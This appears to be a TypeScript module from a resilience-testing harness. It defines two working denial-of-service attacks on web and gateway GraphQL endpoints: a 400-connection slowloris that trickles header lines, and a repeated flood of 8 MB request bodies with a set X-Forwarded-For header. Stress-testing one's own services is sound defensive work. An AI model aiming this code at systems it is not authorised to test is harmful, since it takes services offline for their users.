import { connect } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { type Attack, repeat, type Target } from './pace.ts'

const CONNECTIONS = 400
const LARGE_BODY_BYTES = 8 * 1024 * 1024

/** Connections whose request never ends: they send one header line per second. */
export const slowLoris: Attack = {
  name: 'slow loris',
  run: async ({ web, gateway }, signal) => {
    const trickle = async (index: number): Promise<void> => {
      const { hostname, port } = new URL(index % 2 === 0 ? web : gateway)
      const socket = connect(Number(port), hostname)
      socket.on('error', () => undefined)
      socket.write(`POST /graphql HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\n`)
      for (let line = 0; !signal.aborted && !socket.destroyed; line += 1) {
        socket.write(`X-Line-${line}: slow\r\n`)
        await wait(1_000, undefined, { signal }).catch(() => undefined)
      }
      socket.destroy()
    }
    await Promise.all(Array.from({ length: CONNECTIONS }, (_, index) => trickle(index)))
  },
}

/** Bodies far larger than any operation needs. */
export const largeBodies: Attack = {
  name: 'large bodies',
  run: ({ web, gateway, address }: Target, signal) => {
    const body = JSON.stringify({ query: `{ __typename } #${'x'.repeat(LARGE_BODY_BYTES)}` })
    return repeat({ perSecond: 20, parallel: 8, signal }, async (index) => {
      const headers = { 'content-type': 'application/json', 'x-forwarded-for': address }
      const base = index % 2 === 0 ? web : gateway
      const answer = await fetch(`${base}/graphql`, { method: 'POST', headers, body, signal })
      await answer.arrayBuffer()
    })
  },
}
